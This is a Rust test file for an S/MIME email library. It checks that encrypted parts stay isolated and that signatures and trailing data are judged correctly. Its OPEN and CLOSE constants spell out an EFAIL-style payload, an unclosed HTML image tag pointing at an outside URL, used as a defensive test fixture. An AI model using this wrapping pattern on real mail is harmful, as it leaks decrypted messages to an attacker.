//! Encrypted messages: nothing that somebody else puts beside or around them comes together with what is inside.

use waxwing::crypto::ContentCipher::{Aes128Gcm, Aes256Cbc};
use waxwing::report::Verdict::{OtherSigner, PartlySigned, Pinned, Unsigned};
use waxwing::report::{Covers, Privacy};

use crate::case::{Case, case, pieces};
use crate::generator::people::{ALICE, alice, bob, mallory};
use crate::generator::{ENTITY, EVIL, SIGNED, message, multipart, signature_part, signed_entity};

pub fn cases() -> Vec<Case> {
    [secrets_stay_by_themselves(), signatures_inside_speak_for_what_they_cover(), nothing_follows_a_structure()]
        .into_iter()
        .flatten()
        .collect()
}

const SECRET: &[u8] = b"Content-Type: text/html\r\n\r\n<p>SECRET</p>\r\n";
const OPEN: &[u8] = b"Content-Type: text/html\r\n\r\nEVIL<img src=\"https://example.net/?\r\n";
const CLOSE: &[u8] = b"Content-Type: text/html\r\n\r\n\">EVIL<a href='\r\n";

fn sealed(content: &[u8]) -> Vec<u8> {
    let kind = "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n\
                Content-Transfer-Encoding: binary\r\n\r\n";
    [kind.as_bytes(), &bob().encrypt(Aes256Cbc, content)].concat()
}

fn whole(entity: &[u8]) -> Vec<u8> {
    [format!("From: {ALICE}\r\nSubject: hello\r\nMIME-Version: 1.0\r\n").as_bytes(), entity].concat()
}

/// Somebody who has the encrypted message puts it between parts that would send it away (EFAIL), or tries to make it look like
/// the content of another message: every part is shown by itself, and the encrypted one covers a part.
fn secrets_stay_by_themselves() -> Vec<Case> {
    let secret = sealed(SECRET);
    let signed = sealed(&signed_entity(alice(), ENTITY.as_bytes()));
    let mut cases = Vec::new();
    for kind in ["mixed", "related", "alternative", "signed", "x-unknown", "digest"] {
        let places = [
            ("between", vec![OPEN, &secret, CLOSE]),
            ("before", vec![&secret[..], CLOSE]),
            ("behind a signed one", vec![OPEN, &signed, &secret]),
        ];
        for (place, parts) in places {
            let expected = if place == "behind a signed one" { PartlySigned } else { Unsigned };
            let mail = message(&format!("multipart/{kind}; boundary=m"), &multipart("m", &parts));
            cases.push(case(format!("{kind}, {place}"), mail, expected, "").and(|opened| {
                let (seen, layers) = (pieces(opened), &opened.report.layers);
                assert!(layers.iter().all(|layer| layer.covers == Covers::Part || layer.recipients.is_empty()));
                assert!(opened.decrypted.is_none(), "a part is no message");
                assert_eq!(opened.report.privacy, Privacy::None);
                assert!(!seen.iter().any(|(text, _)| text.contains("https://example.net/?")), "{seen:?}");
            }));
        }
    }
    cases
}

/// A signature inside of an encrypted layer speaks for the message only if both cover all of it, and its signer is the sender.
fn signatures_inside_speak_for_what_they_cover() -> Vec<Case> {
    let good = signed_entity(alice(), ENTITY.as_bytes());
    let his = signed_entity(mallory(), b"Content-Type: text/plain\r\n\r\nOTHER\r\n");
    let evil = EVIL;
    let beside =
        |parts: &[&[u8]]| [b"Content-Type: multipart/mixed; boundary=m\r\n\r\n", &multipart("m", parts)[..]].concat();
    vec![
        case("signed and encrypted", whole(&sealed(&good)), Pinned, ""),
        case("encrypted twice", whole(&sealed(&sealed(&good))), Pinned, ""),
        case("outer text beside", whole(&beside(&[evil, &sealed(&good)])), PartlySigned, "").shows_evil(),
        case("inner text beside", whole(&sealed(&beside(&[&good, evil]))), PartlySigned, ""),
        case("somebody else inside", whole(&sealed(&his)), OtherSigner, ""),
        case("nobody inside", whole(&sealed(evil)), Unsigned, "unauthenticated-cipher"),
        case("two inside", whole(&sealed(&beside(&[&good, &his]))), OtherSigner, ""),
        case(
            "signed around encrypted, by somebody else",
            {
                let kind = SIGNED.replace("boundary=s", "boundary=outer");
                let inner = sealed(evil);
                message(&kind, &multipart("outer", &[&inner, &signature_part(&mallory().sign(&inner))]))
            },
            OtherSigner,
            "",
        ),
        case("garbage before the signed part", whole(&sealed(&beside(&[b"\r\n\x00EVIL", &good]))), PartlySigned, ""),
    ]
}

/// Base64 that ends and goes on: what stands behind the structure is no content.
fn nothing_follows_a_structure() -> Vec<Case> {
    let base64 = |bytes: &[u8]| {
        let mut writer = waxwing::mime::canonical::Base64Writer::new(Vec::new());
        std::io::Write::write_all(&mut writer, bytes).unwrap();
        writer.finish().unwrap()
    };
    let kind = "Content-Type: application/pkcs7-mime; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n";
    let good = bob().encrypt(Aes128Gcm, &signed_entity(alice(), ENTITY.as_bytes()));
    let with = |body: &[u8]| whole(&[kind.as_bytes(), body].concat());
    let mut cases = vec![case("as it should be", with(&base64(&good)), Pinned, "")];
    for (name, tail, expected) in [
        ("letters behind", &b"EVIL"[..], Pinned),
        ("padding behind", b"====", Pinned),
        ("a second base64 behind", b"RVZJTA==", Pinned),
        ("a page behind", b"<b>EVIL</b>", Pinned),
    ] {
        cases.push(case(name, with(&[&base64(&good)[..], tail].concat()), expected, ""));
    }
    cases
}
